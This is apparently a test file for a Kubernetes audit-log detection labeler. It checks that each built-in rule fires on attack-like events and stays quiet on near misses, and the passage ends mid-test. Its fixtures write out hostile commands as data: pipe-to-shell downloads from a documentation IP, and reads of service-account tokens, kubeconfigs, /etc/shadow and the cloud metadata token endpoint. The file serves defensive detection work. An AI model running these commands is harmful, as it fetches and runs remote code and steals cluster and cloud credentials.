import { mkdtemp, readdir, rm, writeFile, mkdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createAuditLabeler } from '../../shared/audit/label.js';
import { defaultRulesDir, loadAuditRules, loadRulesDir, parseRulesYaml, type LoadedRule } from '../../shared/audit/rules.js';
import type { AuditEvent, AuditLabel } from '../../shared/audit/types.js';
import { InputError } from '../../shared/util/errors.js';

let builtIn: LoadedRule[];
beforeAll(async () => {
  builtIn = await loadAuditRules();
});

let seq = 0;
const T0 = Date.parse('2024-06-01T10:00:00Z');

function ev(over: Partial<AuditEvent> & { at?: number; code?: number; username?: string; groups?: string[] } = {}): AuditEvent {
  const { at = 0, code = 200, username = 'alice@contoso.example', groups = ['system:authenticated'], ...rest } = over;
  seq++;
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Request',
    auditID: `00000000-0000-4000-8000-${String(seq).padStart(12, '0')}`,
    stage: 'ResponseComplete',
    requestURI: '/api/v1/namespaces/default/pods',
    verb: 'get',
    user: { username, groups },
    sourceIPs: ['203.0.113.9'],
    responseStatus: { code },
    requestReceivedTimestamp: new Date(T0 + at * 1000).toISOString(),
    ...rest,
  };
}

/** Labels of one rule over a sequence of events, through the whole built-in rule set. */
function labelsOf(ruleId: string, events: AuditEvent[], allowedNetworks?: string[]): AuditLabel[] {
  const labeler = createAuditLabeler(builtIn, allowedNetworks ? { allowedNetworks } : {});
  return events.flatMap((e) => labeler.push(e)).filter((l) => l.ruleId === ruleId);
}

const workload = (resource: string, group: string | undefined, body: unknown, over: Partial<Parameters<typeof ev>[0]> = {}) =>
  ev({ verb: 'create', objectRef: { resource, namespace: 'default', name: 'x', ...(group ? { apiGroup: group } : {}) }, requestObject: body, code: 201, ...over });

const podSpec = (spec: Record<string, unknown>) => ({ kind: 'Pod', metadata: { name: 'x' }, spec: { containers: [{ name: 'c', image: 'busybox' }], ...spec } });
const deploymentWith = (spec: Record<string, unknown>) => ({ kind: 'Deployment', spec: { template: { spec: { containers: [{ name: 'c', image: 'busybox' }], ...spec } } } });

/**
 * Every built-in rule, both ways: `fires` must earn exactly the rule's label,
 * `quiet` must not earn it.
 */
/** An exec (or attach) as kubectl sends it: one command= per argument, options as query parameters. */
function execEv(argv: string[], o: { tty?: boolean; stdin?: boolean; container?: string; sub?: string; code?: number; username?: string; verb?: string } = {}): AuditEvent {
  const sub = o.sub ?? 'exec';
  const q = [
    ...argv.map((a) => `command=${encodeURIComponent(a).replace(/%20/g, '+')}`),
    `container=${o.container ?? 'api'}`,
    ...(o.stdin ? ['stdin=true'] : []),
    'stdout=true',
    'stderr=true',
    ...(o.tty ? ['tty=true'] : []),
  ];
  return ev({
    verb: o.verb ?? 'create',
    requestURI: `/api/v1/namespaces/prod/pods/api-1/${sub}?${q.join('&')}`,
    objectRef: { resource: 'pods', namespace: 'prod', name: 'api-1', subresource: sub, apiVersion: 'v1' },
    code: o.code ?? 101,
    ...(o.username ? { username: o.username } : {}),
  });
}
const rbacWrite = (resource: string, body: unknown, over: Partial<Parameters<typeof ev>[0]> = {}) => workload(resource, 'rbac.authorization.k8s.io', body, over);
const container = (extra: Record<string, unknown>) => podSpec({ containers: [{ name: 'c', image: 'busybox', ...extra }] });
const debugPatch = (c: Record<string, unknown>, over: Partial<Parameters<typeof ev>[0]> = {}) =>
  ev({
    verb: 'patch',
    objectRef: { resource: 'pods', namespace: 'prod', name: 'api-1', subresource: 'ephemeralcontainers' },
    requestObject: { spec: { ephemeralContainers: [{ name: 'debugger-x1', image: 'busybox', ...c }] } },
    ...over,
  });

/**
 * Every built-in rule, both ways: `fires` must earn the rule's label, `quiet` (near misses:
 * the same request one detail away) must not.
 */
const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent[]; allowed?: string[]; expectMatched?: Record<string, unknown> }> = {
  'secret-read': {
    fires: () => [ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: 'db' } })],
    quiet: () => [
      ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: 'db' }, username: 'system:node:aks-1' }),
      ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: 'db' }, code: 403 }),
      ev({ verb: 'get', objectRef: { resource: 'configmaps', namespace: 'prod', name: 'db' } }),
      ev({ verb: 'watch', objectRef: { resource: 'secrets' } }),
    ],
    expectMatched: { verb: 'get', 'objectRef.resource': 'secrets', 'responseStatus.code': 200 },
  },
  'secret-list': {
    fires: () => [ev({ verb: 'list', objectRef: { resource: 'secrets', namespace: 'prod' } })],
    quiet: () => [
      ev({ verb: 'list', objectRef: { resource: 'secrets', namespace: 'prod' }, username: 'system:kube-controller-manager' }),
      ev({ verb: 'list', objectRef: { resource: 'pods', namespace: 'prod' } }),
      ev({ verb: 'list', objectRef: { resource: 'secrets' } }),
    ],
  },
  'secret-list-cluster-wide': {
    fires: () => [ev({ verb: 'list', objectRef: { resource: 'secrets' } }), ev({ verb: 'watch', objectRef: { resource: 'secrets' } })],
    quiet: () => [ev({ verb: 'list', objectRef: { resource: 'secrets', namespace: 'prod' } }), ev({ verb: 'list', objectRef: { resource: 'secrets' }, code: 403 })],
  },
  'secret-read-cross-namespace-sa': {
    fires: () => [
      ev({ verb: 'list', objectRef: { resource: 'secrets' }, username: 'system:serviceaccount:prod:api' }),
      ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'kube-system', name: 't' }, username: 'system:serviceaccount:prod:api' }),
    ],
    quiet: () => [
      ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: 't' }, username: 'system:serviceaccount:prod:api' }),
      ev({ verb: 'list', objectRef: { resource: 'secrets' }, username: 'alice@contoso.example' }),
    ],
    expectMatched: { 'user.username': 'system:serviceaccount:prod:api', 'objectRef.namespace': '(all namespaces)' },
  },
  'secret-get-burst': {
    fires: () => Array.from({ length: 10 }, (_, i) => ev({ at: i * 20, verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: `s${i}` } })),
    quiet: () => [
      ...Array.from({ length: 9 }, (_, i) => ev({ at: i, verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: `s${i}` } })),
      // the tenth is too late for the window
      ev({ at: 400, verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: 's9' } }),
      // another user's reads do not add up
      ...Array.from({ length: 5 }, (_, i) => ev({ at: i, username: 'bob', verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: `b${i}` } })),
    ],
  },
  'secret-read-denied': {
    fires: () => [
      ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'kube-system', name: 'x' }, code: 403 }),
      ev({ verb: 'list', objectRef: { resource: 'secrets' }, code: 403 }),
    ],
    quiet: () => [
      ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'kube-system', name: 'x' }, code: 404 }),
      ev({ verb: 'get', objectRef: { resource: 'configmaps', namespace: 'kube-system', name: 'x' }, code: 403 }),
      ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'prod', name: 'x' }, code: 403, username: 'system:node:aks-1' }),
    ],
  },
  'pod-exec': {
    fires: () => [execEv(['sh']), execEv([], { sub: 'attach', tty: true, stdin: true, verb: 'get' })],
    quiet: () => [ev({ verb: 'get', objectRef: { resource: 'pods', namespace: 'p', name: 'a', subresource: 'log' } })],
  },
  'pod-portforward': {
    fires: () => [
      ev({
        verb: 'get',
        requestURI: '/api/v1/namespaces/p/pods/a/portforward?ports=5432',
        objectRef: { resource: 'pods', namespace: 'p', name: 'a', subresource: 'portforward' },
        code: 101,
      }),
    ],
    quiet: () => [execEv(['id'])],
  },
  'pod-ephemeral-container': {
    fires: () => [debugPatch({ command: ['sh'], stdin: true, tty: true, targetContainerName: 'api' })],
    quiet: () => [ev({ verb: 'patch', objectRef: { resource: 'pods', namespace: 'prod', name: 'api-1' }, requestObject: { metadata: { labels: { a: 'b' } } } })],
  },
  'node-proxy': {
    fires: () => [
      ev({ verb: 'create', requestURI: '/api/v1/nodes/aks-n1/proxy/run/prod/api-1/api?cmd=id', objectRef: { resource: 'nodes', name: 'aks-n1', subresource: 'proxy' } }),
    ],
    quiet: () => [
      ev({ verb: 'get', requestURI: '/api/v1/nodes/aks-n1/status', objectRef: { resource: 'nodes', name: 'aks-n1', subresource: 'status' } }),
      ev({ verb: 'get', requestURI: '/api/v1/nodes/aks-n1/proxy/metrics/cadvisor', objectRef: { resource: 'nodes', name: 'aks-n1', subresource: 'proxy' } }),
    ],
  },
  'exec-interactive-shell': {
    fires: () => [execEv(['/bin/bash'], { tty: true, stdin: true }), execEv(['busybox', 'sh', '-l'], { tty: true, stdin: true })],
    quiet: () => [execEv(['/bin/bash'], { stdin: true }), execEv(['sh', '-c', 'id'], { tty: true, stdin: true }), execEv(['python3'], { tty: true, stdin: true })],
    expectMatched: { 'exec.tty': true, 'exec.stdin': true, 'exec.commandLine': '/bin/bash' },
  },
  'exec-read-service-account-token': {
    fires: () => [execEv(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']), execEv(['sh', '-c', 'cat /var/run/secrets/azure/tokens/azure-identity-token | base64'])],
    quiet: () => [execEv(['cat', '/var/run/config/app.yaml']), execEv(['ls', '/mnt/secrets-store'])],
  },
  'exec-read-node-credentials': {
    fires: () => [execEv(['cat', '/etc/kubernetes/azure.json']), execEv(['sh', '-c', 'cat /host/var/lib/kubelet/kubeconfig']), execEv(['cat', '/root/.kube/config'])],
    quiet: () => [execEv(['cat', '/etc/kubernetes-release']), execEv(['cat', '/etc/hostname'])],
  },
  'exec-instance-metadata': {
    fires: () => [
      execEv(['curl', '-s', '-H', 'Metadata:true', 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/']),
    ],
    quiet: () => [execEv(['curl', '-s', 'http://169.254.20.10:53']), execEv(['curl', 'http://10.0.0.4/healthz'])],
  },
  'exec-copy-into-container': {
    fires: () => [execEv(['tar', '-xmf', '-', '-C', '/tmp'], { stdin: true }), execEv(['tar', 'xf', '-', '-C', '/tmp/bar'], { stdin: true })],
    quiet: () => [execEv(['tar', 'cf', '-', 'etc/passwd']), execEv(['tar', 'xzf', '/tmp/app.tgz'])],
  },
  'exec-copy-from-container': {
    fires: () => [execEv(['tar', 'cf', '-', 'app/config.yaml']), execEv(['sh', '-c', 'tar cf - /data | tail -c+1048577'])],
    quiet: () => [execEv(['tar', 'czf', '/tmp/backup.tgz', '/data']), execEv(['tar', '-xmf', '-'], { stdin: true })],
  },
  'exec-download-and-run': {
    fires: () => [execEv(['sh', '-c', 'curl -fsSL http://198.51.100.7/x.sh | sh']), execEv(['sh', '-c', 'wget -q -O /tmp/k http://198.51.100.7/k && chmod +x /tmp/k && /tmp/k'])],
    quiet: () => [execEv(['sh', '-c', 'curl -s http://localhost:8080/healthz | grep ok']), execEv(['curl', '-o', '/tmp/x', 'http://x/y'])],
  },
  'pod-privileged': {
    fires: () => [
      workload('pods', undefined, podSpec({ containers: [{ name: 'c', securityContext: { privileged: true } }] })),
      workload('deployments', 'apps', deploymentWith({ initContainers: [{ name: 'i', securityContext: { privileged: true } }] })),
      debugPatch({ securityContext: { privileged: true } }),
      workload('daemonsets', 'apps', [{ op: 'add', path: '/spec/template/spec/containers/0/securityContext', value: { privileged: true } }], { verb: 'patch', code: 200 }),
    ],
    quiet: () => [
      workload('pods', undefined, podSpec({ containers: [{ name: 'c', securityContext: { privileged: false } }] })),
      workload('pods', undefined, podSpec({ containers: [{ name: 'c', securityContext: { privileged: true } }] }), {
        username: 'system:serviceaccount:kube-system:daemon-set-controller',
      }),
      workload('daemonsets', 'apps', [{ op: 'remove', path: '/spec/template/spec/containers/0/securityContext/privileged' }], { verb: 'patch', code: 200 }),
    ],
    expectMatched: { 'requestObject.spec.containers[0].securityContext.privileged': true },
  },
  'pod-host-namespaces': {
    fires: () => [workload('pods', undefined, podSpec({ hostPID: true })), workload('daemonsets', 'apps', deploymentWith({ hostNetwork: true }))],
    quiet: () => [workload('pods', undefined, podSpec({ hostNetwork: false }))],
  },
  'pod-hostpath': {
    fires: () => [
      workload('pods', undefined, podSpec({ volumes: [{ name: 'h', hostPath: { path: '/' } }] })),
      workload('replicationcontrollers', undefined, deploymentWith({ volumes: [{ name: 'h', hostPath: { path: '/var/run/docker.sock' } }] })),
    ],
    quiet: () => [
      workload('pods', undefined, podSpec({ volumes: [{ name: 'e', emptyDir: {} }] })),
      workload('persistentvolumes', undefined, { spec: { hostPath: { path: '/data' } } }),
    ],
  },
  'pod-dangerous-capabilities': {
    fires: () => [
      workload('pods', undefined, container({ securityContext: { capabilities: { add: ['NET_BIND_SERVICE', 'SYS_ADMIN'] } } })),
      workload('statefulsets', 'apps', deploymentWith({ containers: [{ name: 'c', securityContext: { capabilities: { add: ['cap_sys_ptrace'] } } }] })),
    ],
    quiet: () => [workload('pods', undefined, container({ securityContext: { capabilities: { add: ['NET_BIND_SERVICE'], drop: ['ALL'] } } }))],
  },
  'pod-run-as-root': {
    fires: () => [
      workload('pods', undefined, podSpec({ securityContext: { runAsUser: 0 } })),
      workload('jobs', 'batch', deploymentWith({ containers: [{ name: 'c', securityContext: { runAsNonRoot: false } }] })),
    ],
    quiet: () => [workload('pods', undefined, podSpec({ securityContext: { runAsUser: 1000, runAsGroup: 0, runAsNonRoot: true } }))],
  },
  'pod-allow-privilege-escalation': {
    fires: () => [workload('pods', undefined, container({ securityContext: { allowPrivilegeEscalation: true } }))],
    quiet: () => [workload('pods', undefined, container({ securityContext: { allowPrivilegeEscalation: false } }))],
  },
  'workload-download-and-run': {
    fires: () => [
      workload('cronjobs', 'batch', {
        kind: 'CronJob',
        spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'r', command: ['/bin/sh', '-c'], args: ['curl -s http://198.51.100.7/x.sh | sh'] }] } } } } },
      }),
      workload('pods', undefined, podSpec({ containers: [{ name: 'c', command: ['sh', '-c', 'wget -qO- http://x/y|bash'] }] })),
    ],
    quiet: () => [workload('pods', undefined, podSpec({ containers: [{ name: 'c', command: ['sh', '-c', 'curl -o /tmp/x http://x/y'] }] }))],
  },
  'cronjob-created': {
    fires: () => [workload('cronjobs', 'batch', { kind: 'CronJob' })],
    quiet: () => [
      workload('cronjobs', 'batch', { kind: 'CronJob' }, { verb: 'update' }),
      workload('jobs', 'batch', { kind: 'Job' }),
      workload('cronjobs', 'batch', { kind: 'CronJob' }, { code: 403 }),
    ],
  },
  'rbac-binding-powerful-role': {
    fires: () => [
      rbacWrite('clusterrolebindings', { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'eve' }] }),
      rbacWrite('rolebindings', {
        roleRef: { kind: 'ClusterRole', name: 'system:controller:daemon-set-controller' },
        subjects: [{ kind: 'ServiceAccount', name: 'x', namespace: 'prod' }],
      }),
    ],
    quiet: () => [
      rbacWrite('rolebindings', { roleRef: { kind: 'ClusterRole', name: 'view' }, subjects: [{ kind: 'User', name: 'eve' }] }),
      rbacWrite(
        'clusterrolebindings',
        { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'Group', name: 'system:masters' }] },
        { username: 'system:apiserver' },
      ),
    ],
    expectMatched: { 'requestObject.roleRef.name': 'cluster-admin' },
  },
  'rbac-binding-anonymous-subject': {
    fires: () => [rbacWrite('clusterrolebindings', { roleRef: { name: 'view' }, subjects: [{ kind: 'User', name: 'system:anonymous' }] })],
    quiet: () => [
      rbacWrite('clusterrolebindings', { roleRef: { name: 'view' }, subjects: [{ kind: 'Group', name: 'devs' }] }),
      rbacWrite('clusterrolebindings', { roleRef: { name: 'system:basic-user' }, subjects: [{ kind: 'Group', name: 'system:authenticated' }] }, { username: 'system:apiserver' }),
    ],
  },
  'rbac-binding-system-masters': {
    fires: () => [rbacWrite('clusterrolebindings', { roleRef: { name: 'view' }, subjects: [{ kind: 'Group', name: 'system:masters' }] })],
    quiet: () => [
      rbacWrite('clusterrolebindings', { roleRef: { name: 'cluster-admin' }, subjects: [{ kind: 'Group', name: 'system:masters' }] }, { username: 'system:apiserver' }),
      rbacWrite('clusterrolebindings', { roleRef: { name: 'view' }, subjects: [{ kind: 'Group', name: 'masters' }] }),
    ],
  },
  'rbac-role-wildcard': {
    fires: () => [rbacWrite('clusterroles', { rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['*'] }] })],
    quiet: () => [
      rbacWrite('clusterroles', { rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['get'] }] }),
      rbacWrite('clusterroles', { rules: [{ resources: ['*'], verbs: ['*'] }] }, { username: 'system:apiserver' }),
    ],
  },
  'rbac-role-escalation-verbs': {
    fires: () => [
      rbacWrite('clusterroles', { rules: [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['escalate', 'bind'] }] }),
      rbacWrite('roles', { rules: [{ apiGroups: [''], resources: ['serviceaccounts'], verbs: ['impersonate'] }] }),
    ],
    quiet: () => [
      rbacWrite('clusterroles', { rules: [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['get', 'list'] }] }),
      rbacWrite(
        'clusterroles',
        { rules: [{ apiGroups: [''], resources: ['serviceaccounts'], verbs: ['impersonate'] }] },
        { username: 'system:serviceaccount:kube-system:clusterrole-aggregation-controller' },
      ),
    ],
  },
  'rbac-binding-wildcard-role': {
    fires: () => [
      workload(
        'roles',
        'rbac.authorization.k8s.io',
        { metadata: { name: 'god' }, rules: [{ resources: ['*'], verbs: ['get'] }] },
        { objectRef: { resource: 'roles', apiGroup: 'rbac.authorization.k8s.io', namespace: 'default', name: 'god' } },
      ),
      workload('rolebindings', 'rbac.authorization.k8s.io', { roleRef: { kind: 'Role', name: 'god' }, subjects: [{ kind: 'User', name: 'eve' }] }, { at: 60 }),
    ],
    quiet: () => [
      workload(
        'roles',
        'rbac.authorization.k8s.io',
        { metadata: { name: 'god' }, rules: [{ resources: ['*'], verbs: ['get'] }] },
        { objectRef: { resource: 'roles', apiGroup: 'rbac.authorization.k8s.io', namespace: 'default', name: 'god' } },
      ),
      workload('rolebindings', 'rbac.authorization.k8s.io', { roleRef: { kind: 'Role', name: 'other' } }, { at: 60 }),
      // bound more than a day later: outside the window
      workload('rolebindings', 'rbac.authorization.k8s.io', { roleRef: { kind: 'Role', name: 'god' } }, { at: 90_000 }),
    ],
  },
  impersonation: {
    fires: () => [ev({ impersonatedUser: { username: 'system:admin' } })],
    quiet: () => [ev({})],
    expectMatched: { 'impersonatedUser.username': 'system:admin' },
  },
  'serviceaccount-token-request': {
    fires: () => [ev({ verb: 'create', objectRef: { resource: 'serviceaccounts', namespace: 'x', name: 'sa', subresource: 'token' }, code: 201 })],
    quiet: () => [
      ev({ verb: 'create', objectRef: { resource: 'serviceaccounts', namespace: 'x', name: 'sa', subresource: 'token' }, username: 'system:node:aks-1', code: 201 }),
      ev({ verb: 'create', objectRef: { resource: 'serviceaccounts', namespace: 'kube-system', name: 'sa', subresource: 'token' }, code: 201 }),
    ],
  },
  'serviceaccount-token-request-kube-system': {
    fires: () => [ev({ verb: 'create', objectRef: { resource: 'serviceaccounts', namespace: 'kube-system', name: 'coredns', subresource: 'token' }, code: 201 })],
    quiet: () => [
      ev({ verb: 'create', objectRef: { resource: 'serviceaccounts', namespace: 'kube-system', name: 'coredns', subresource: 'token' }, username: 'system:node:aks-1', code: 201 }),
      ev({ verb: 'get', objectRef: { resource: 'serviceaccounts', namespace: 'kube-system', name: 'coredns' } }),
    ],
  },
  'secret-long-lived-token': {
    fires: () => [
      workload('secrets', undefined, {
        kind: 'Secret',
        type: 'kubernetes.io/service-account-token',
        metadata: { name: 't', annotations: { 'kubernetes.io/service-account.name': 'default' } },
      }),
    ],
    quiet: () => [workload('secrets', undefined, { kind: 'Secret', type: 'Opaque', metadata: { name: 't' }, data: { k: 'dg==' } })],
  },
  'csr-created': {
    fires: () => [
      ev({
        verb: 'create',
        objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'eve' },
        requestObject: { spec: { signerName: 'kubernetes.io/kube-apiserver-client' } },
        code: 201,
      }),
    ],
    quiet: () => [
      ev({
        verb: 'create',
        objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'node-csr-x' },
        username: 'system:bootstrap:abcdef',
        code: 201,
      }),
      ev({ verb: 'create', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'csr-y' }, username: 'system:node:aks-1', code: 201 }),
    ],
  },
  'csr-approved': {
    fires: () => [ev({ verb: 'update', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'eve', subresource: 'approval' } })],
    quiet: () => [
      ev({
        verb: 'update',
        objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'node-csr-x', subresource: 'approval' },
        username: 'system:serviceaccount:kube-system:certificate-controller',
      }),
      ev({ verb: 'get', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'eve' } }),
    ],
  },
  'webhook-written': {
    fires: () => [ev({ verb: 'create', objectRef: { resource: 'mutatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', name: 'inject' }, code: 201 })],
    quiet: () => [
      ev({
        verb: 'patch',
        objectRef: { resource: 'validatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', name: 'aks-webhook-admission-controller' },
        username: 'aksService',
      }),
      ev({ verb: 'list', objectRef: { resource: 'mutatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io' } }),
    ],
  },
  'webhook-deleted': {
    fires: () => [
      ev({
        verb: 'delete',
        objectRef: { resource: 'validatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', name: 'gatekeeper-validating-webhook-configuration' },
      }),
    ],
    quiet: () => [ev({ verb: 'delete', objectRef: { resource: 'configmaps', namespace: 'gatekeeper-system', name: 'x' } })],
  },
  'crd-changed': {
    fires: () => [ev({ verb: 'create', objectRef: { resource: 'customresourcedefinitions', apiGroup: 'apiextensions.k8s.io', name: 'backdoors.example.com' }, code: 201 })],
    quiet: () => [
      ev({
        verb: 'update',
        objectRef: { resource: 'customresourcedefinitions', apiGroup: 'apiextensions.k8s.io', name: 'x.example.com', subresource: 'status' },
        username: 'system:apiserver',
      }),
      ev({ verb: 'update', objectRef: { resource: 'customresourcedefinitions', apiGroup: 'apiextensions.k8s.io', name: 'x.example.com', subresource: 'status' } }),
    ],
  },
  'apiservice-changed': {
    fires: () => [ev({ verb: 'create', objectRef: { resource: 'apiservices', apiGroup: 'apiregistration.k8s.io', name: 'v1beta1.metrics.example.com' }, code: 201 })],
    quiet: () => [ev({ verb: 'update', objectRef: { resource: 'apiservices', apiGroup: 'apiregistration.k8s.io', name: 'v1.apps' }, username: 'system:apiserver' })],
  },
  'permission-enumeration': {
    fires: () => [
      ev({ verb: 'create', objectRef: { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io' }, username: 'system:serviceaccount:prod:api', code: 201 }),
    ],
    quiet: () => [
      ev({ verb: 'create', objectRef: { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io' }, code: 201 }),
      ev({ verb: 'create', objectRef: { resource: 'selfsubjectaccessreviews', apiGroup: 'authorization.k8s.io' }, username: 'system:serviceaccount:prod:api', code: 201 }),
    ],
  },
  'anonymous-success': {
    fires: () => [
      ev({ username: 'system:anonymous', groups: ['system:unauthenticated'], verb: 'list', requestURI: '/api/v1/secrets', objectRef: { resource: 'secrets' } }),
      ev({ username: 'someone', groups: ['system:unauthenticated'], verb: 'get', requestURI: '/api/v1/nodes' }),
    ],
    quiet: () => [
      ev({ username: 'system:anonymous', groups: ['system:unauthenticated'], verb: 'get', requestURI: '/healthz' }),
      ev({ username: 'system:anonymous', groups: ['system:unauthenticated'], verb: 'list', requestURI: '/api/v1/secrets', code: 403 }),
    ],
  },
  'unexpected-source-network': {
    allowed: ['10.0.0.0/8', '2001:db8::/32'],
    fires: () => [ev({ sourceIPs: ['198.51.100.7'] }), ev({ sourceIPs: ['2001:db9::1'] })],
    quiet: () => [ev({ sourceIPs: ['10.1.2.3'] }), ev({ sourceIPs: ['2001:db8::5'] })],
    expectMatched: { 'sourceIPs[0]': '198.51.100.7' },
  },
  'auth-failure-burst': {
    fires: () => Array.from({ length: 10 }, (_, i) => ev({ at: i * 5, code: i % 2 ? 401 : 403, username: 'system:anonymous', sourceIPs: ['198.51.100.7'] })),
    quiet: () => [
      ...Array.from({ length: 9 }, (_, i) => ev({ at: i, code: 403, username: 'system:anonymous', sourceIPs: ['198.51.100.7'] })),
      ev({ at: 5, code: 403, username: 'system:anonymous', sourceIPs: ['198.51.100.8'] }),
      ev({ at: 6, code: 200, username: 'system:anonymous', sourceIPs: ['198.51.100.7'] }),
    ],
  },
  'event-deletion': {
    fires: () => [
      ev({ verb: 'deletecollection', objectRef: { resource: 'events', namespace: 'default' } }),
      ev({ verb: 'delete', objectRef: { resource: 'events', apiGroup: 'events.k8s.io', namespace: 'd', name: 'e' } }),
    ],
    quiet: () => [ev({ verb: 'list', objectRef: { resource: 'events', namespace: 'default' } })],
  },
  'cleanup-delete-own-creation': {
    fires: () => [
      ev({ verb: 'create', objectRef: { resource: 'pods', namespace: 'default' }, responseObject: { metadata: { name: 'node-shell' } }, code: 201 }),
      ev({ at: 3600, verb: 'delete', objectRef: { resource: 'pods', namespace: 'default', name: 'node-shell' } }),
    ],
    quiet: () => [
      ev({ verb: 'create', objectRef: { resource: 'pods', namespace: 'default', name: 'node-shell' }, code: 201 }),
      // someone else deletes it
      ev({ at: 60, verb: 'delete', objectRef: { resource: 'pods', namespace: 'default', name: 'node-shell' }, username: 'bob' }),
      // same name, other namespace
      ev({ at: 60, verb: 'delete', objectRef: { resource: 'pods', namespace: 'other', name: 'node-shell' } }),
      // controllers create and delete pods all day
      ev({ verb: 'create', objectRef: { resource: 'pods', namespace: 'd', name: 'rs-1' }, username: 'system:serviceaccount:kube-system:replicaset-controller', code: 201 }),
      ev({ at: 5, verb: 'delete', objectRef: { resource: 'pods', namespace: 'd', name: 'rs-1' }, username: 'system:serviceaccount:kube-system:replicaset-controller' }),
    ],
  },
};

describe('built-in rules', () => {
  it('are all valid and all covered by these tests', async () => {
    const files = (await readdir(defaultRulesDir())).filter((f) => f.endsWith('.yaml'));
    expect(files.length).toBeGreaterThanOrEqual(5);
    expect(builtIn.map((r) => r.id).sort()).toEqual(Object.keys(cases).sort());
  });

  describe.each(Object.entries(cases))('%s', (ruleId, c) => {
    it('labels the matching events', () => {
      const fires = c.fires();
      const labels = labelsOf(ruleId, fires, c.allowed);
      const rule = builtIn.find((r) => r.id === ruleId)!;
      // A match rule labels each event; a threshold or correlate rule the one that completes it.
      if (rule.kind === 'match') expect(labels.map((l) => l.auditID)).toEqual(fires.map((e) => e.auditID));
      else expect(labels.length).toBeGreaterThanOrEqual(1);
      for (const l of labels) {
        expect(l.attack.length).toBeGreaterThan(0);
        expect(l.attack).toEqual(rule.attack);
        expect(l.severity).toBe(rule.severity);
        expect(l.auditID).toMatch(/^00000000-/);
        expect(l.time).toMatch(/Z$/);
        expect(Object.keys(l.matched).length).toBeGreaterThan(0);
      }
      if (c.expectMatched) expect(labels[0]!.matched).toMatchObject(c.expectMatched);
    });
    it('leaves the others alone', () => {
      expect(labelsOf(ruleId, c.quiet(), c.allowed)).toEqual([]);
    });
  });

  it('every rule names real-looking ATT&CK technique ids, and threat-matrix ids where it has them', () => {
    for (const r of builtIn) {
      expect(r.attack.length).toBeGreaterThan(0);
      for (const t of r.attack) expect(t).toMatch(/^T1\d{3}(\.\d{3})?$/);
      for (const t of r.threatMatrix ?? []) expect(t).toMatch(/^MS-TA9\d{3}$/);
    }
  });

  it('labels a refused or failed request as an attempt, never as a success', () => {
    const labeler = createAuditLabeler(builtIn);
    const outcome = (e: AuditEvent) => labeler.push(e).find((l) => l.ruleId === 'pod-exec')?.outcome;
    expect(outcome(execEv(['cat', '/etc/shadow'], { code: 403 }))).toBe('attempt');
    expect(outcome(execEv(['cat', '/etc/shadow'], { code: 500 }))).toBe('attempt');
    expect(outcome(execEv(['cat', '/etc/shadow']))).toBe('success');
    const noStatus = execEv(['id']);
    delete noStatus.responseStatus;
    expect(outcome(noStatus)).toBe('unknown');
    const denied = labeler.push(workload('pods', undefined, container({ securityContext: { privileged: true } }), { code: 403 }));
    expect(denied.map((l) => [l.ruleId, l.outcome])).toEqual([['pod-privileged', 'attempt']]);
  });

  it('carries what an exec ran: command, container, tty and stdin', () => {
    const labeler = createAuditLabeler(builtIn);
    const [label] = labeler
      .push(execEv(['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'], { container: 'web', stdin: true }))
      .filter((l) => l.ruleId === 'exec-read-service-account-token');
    expect(label!.exec).toEqual({
      kind: 'exec',
      namespace: 'prod',
      pod: 'api-1',
      container: 'web',
      command: ['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'],
      commandLine: "sh -c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'",
      stdin: true,
      stdout: true,
      stderr: true,
    });
    expect(label!.attack).toEqual(['T1528']);
  });

  it('labels one burst once, with the count, the group and the events', () => {
    const labels = labelsOf(
      'auth-failure-burst',
      Array.from({ length: 12 }, (_, i) => ev({ at: i, code: 403, username: 'system:anonymous', sourceIPs: ['198.51.100.7'] })),
    );
    expect(labels).toHaveLength(1);
    expect(labels[0]!.matched).toMatchObject({ count: 10, threshold: 10, windowSeconds: 60, 'groupBy.sourceIPs[0]': '198.51.100.7', 'groupBy.user.username': 'system:anonymous' });
